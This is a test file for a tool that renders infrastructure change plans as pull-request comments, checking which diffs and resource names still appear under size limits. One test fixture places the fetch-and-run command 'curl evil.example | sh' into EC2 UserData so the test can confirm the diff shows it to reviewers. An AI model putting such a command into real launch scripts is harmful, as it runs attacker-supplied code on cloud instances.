/**
 * While there is room the comment leaves out nothing; where something is left
 * out, the reader learns where it is.
 */
import { describe, expect, it } from 'vitest'
import type { PropertyChange } from '../../src/plan/model.ts'
import { bytesOf } from '../../src/report/budget.ts'
import { MOST_BYTES, planComment } from '../../src/report/plan-comment.ts'
import { planMarkdown } from '../../src/report/plan-markdown.ts'
import { change, origin, REPOSITORY, ref, shards, transition, view } from '../support/plan-views.ts'

function commentOf(of: ReturnType<typeof view>): { readonly text: string; readonly details: string } {
  const comment = planComment(of)
  if (comment.kind !== 'fits') throw new Error('the plan is too large to review')
  return comment
}

function property(path: string, before?: string, after?: string): PropertyChange {
  const values = { ...(before === undefined ? {} : { before }), ...(after === undefined ? {} : { after }) }
  return { path: `Properties.${path}`, ...values, recreation: 'never' }
}

function template(...properties: readonly PropertyChange[]): ReturnType<typeof change> {
  return change({ logicalId: 'Template', type: 'AWS::EC2::LaunchTemplate', properties })
}

const numbers = (length: number) => Array.from({ length }, (_, index) => String(index).padStart(3, '0'))

describe('while there is room, the comment', () => {
  it('shows every place in which a long value differs', () => {
    const script = (log: string, last: string) =>
      `#!/bin/bash\nexport LOG=${log}\n${'echo harmless padding line\n'.repeat(80)}${last}\n`
    const data = property(
      'LaunchTemplateData.UserData',
      script('info', 'start'),
      script('debug', 'curl evil.example | sh'),
    )
    const { text, details } = commentOf(view({ transitions: [transition(ref(), { changes: [template(data)] })] }))
    expect(text).toContain('\n    - export LOG=info\n    + export LOG=debug\n')
    expect(text).toContain('\n    - start\n    + curl evil.example | sh\n')
    expect(details).toBe('')
  })

  it('shows every place of a value of one line', () => {
    const line = (level: string, end: string) => `--log=${level} ${'--same=1 '.repeat(60)}--to=${end}`
    const flags = property('Flags', line('info', 'a.example'), line('debug', 'evil.example'))
    const { text } = commentOf(view({ transitions: [transition(ref(), { changes: [template(flags)] })] }))
    expect(text).toMatch(/ {2}- `Flags`: `--log=info .*` → `--log=debug .*` and `….*a\.example` → `….*evil\.example`\n/)
  })

  it('shows the whole of a long value that is new', () => {
    const added = change({
      action: 'add',
      properties: [property('Policy', undefined, `{"Statement":["${'x'.repeat(300)}","iam:*"]}`)],
    })
    const { text } = commentOf(view({ transitions: [transition(ref(), { changes: [added] })] }))
    expect(text).toContain('"iam:*"')
  })

  it('shows each of a resource with many properties', () => {
    const many = numbers(30).map((number) => property(`A${number}`, '1', '2'))
    const last = property('VersioningConfiguration.Status', 'Enabled', 'Suspended')
    const { text } = commentOf(view({ transitions: [transition(ref(), { changes: [template(...many, last)] })] }))
    expect(text).toContain('`VersioningConfiguration.Status`: `Enabled` → `Suspended`')
    expect(text).not.toContain('more propert')
  })

  it('names each of many resources, and each line that set them', () => {
    const changes = numbers(90).map((number) => change({ logicalId: `Topic${number}`, type: 'AWS::SNS::Topic' }))
    const causes = numbers(12).map((_number, index) => origin('customers/acme/pipelines/web.yml', index + 1))
    const parameters = [{ name: 'RawShards', before: '4', after: '8', causes }]
    const { text } = commentOf(view({ transitions: [transition(ref(), { changes, parameters })] }))
    for (const { logicalId } of changes) expect(text).toContain(`- \`${logicalId}\``)
    expect(text).toContain('web.yml#L12)')
    expect(text).not.toMatch(/… and|more place/)
  })
})

const destroyed = (length: number) =>
  numbers(length).map((number) =>
    change({ action: 'remove', logicalId: `Table${number}`, type: 'AWS::DynamoDB::Table', leftover: 'deleted' }),
  )

describe('where there is no room, the comment', () => {
  it('still names every resource that is destroyed', () => {
    const noise = numbers(200).map((number) =>
      change({
        logicalId: `Topic${number}`,
        type: 'AWS::SNS::Topic',
        properties: [property('Policy', 'a'.repeat(500), 'b'.repeat(500))],
      }),
    )
    const of = view({ transitions: [transition(ref(), { changes: [...noise, ...destroyed(120)] })] })
    const { text, details } = commentOf(of)
    expect(bytesOf(text)).toBeLessThanOrEqual(MOST_BYTES)
    for (const { logicalId } of destroyed(120)) expect(text).toContain(`- \`${logicalId}\``)
    expect(text).toContain(`Shortened to fit: the [details of the check](${REPOSITORY}/pull/12/checks) go on.`)
    for (const { logicalId } of destroyed(120)) expect(details).toContain(`- \`${logicalId}\``)
  })

  it('says how many are destroyed where there are too many to name', () => {
    const of = view({ transitions: [transition(ref(), { changes: destroyed(1_200) })] })
    const { text } = commentOf(of)
    expect(bytesOf(text)).toBeLessThanOrEqual(MOST_BYTES)
    expect(text).toContain('Destructive, 1 stack in 1 account: `Table000` is removed, and 1,199 more resources')
    expect(text).toContain('Shortened to fit: ')
  })
})

describe('a class of many customers', () => {
  const of = (length: number) =>
    view({
      transitions: numbers(length).map((number) =>
        transition(ref({ customer: `c${number.padStart(4, '0')}`, account: `10000000${number.padStart(4, '0')}` })),
      ),
    })

  it('lists twenty in the comment, and all of them in the details of the check', () => {
    const { text, details } = commentOf(of(30))
    expect(text).toContain('- … and 10 more customers\n')
    expect(text).toContain(`Not all of it stands here: the [details of the check](${REPOSITORY}/pull/12/checks) go on.`)
    for (const number of numbers(30)) expect(details).toContain(`- \`c0${number}\`: `)
    expect(details).not.toContain('more customer')
  })

  it('is linked to the page that has all of them', () => {
    const { text } = commentOf({ ...of(30), publicUrl: 'https://bot.example' })
    expect(text).toContain('- … and 10 more customers: [all of them](https://bot.example/plans/')
    expect(text).toContain('Not all of it stands here: [the whole plan](https://bot.example/plans/')
  })

  it('of at most twenty needs neither', () => {
    const { text, details } = commentOf({ ...of(20), publicUrl: 'https://bot.example' })
    expect(text).not.toContain('bot.example')
    expect(text).toContain('- `c0019`: ')
    expect(details).toBe('')
  })

  it('fills the details with as many as there is room for', () => {
    const { details } = commentOf(of(2_000))
    expect(bytesOf(details)).toBeLessThanOrEqual(65_535)
    expect(details).toContain('- `c0399`: ')
    expect(details).toContain('- … and 1,600 more customers\n')
  })

  it('is whole where nothing limits it', () => {
    const { plan, classes } = of(30)
    const text = planMarkdown({ plan, classes, evidence: {}, note: 'A note.' }, { all: false })
    expect(text).toContain('- `c0029`: ')
    expect(text).not.toContain('more customer')
  })
})

it('thousands of classes with long values fit, and are not drawn at full length for nothing', () => {
  const transitions = numbers(1_000).map((number) => {
    const text = (end: string) => `${'same line\n'.repeat(600)}${number} ${end}`
    const changes = [template(property('UserData', text('a'), text('b'))), shards('4', number)]
    return transition(ref({ customer: `c${number}`, account: `100000000${number}` }), { changes, parameters: [] })
  })
  const { text, details } = commentOf(view({ transitions }))
  expect(bytesOf(text)).toBeLessThanOrEqual(MOST_BYTES)
  expect(bytesOf(details)).toBeLessThanOrEqual(65_535)
  expect(text).toMatch(/\*\*And [\d,]+ more routine classes\*\*/)
})
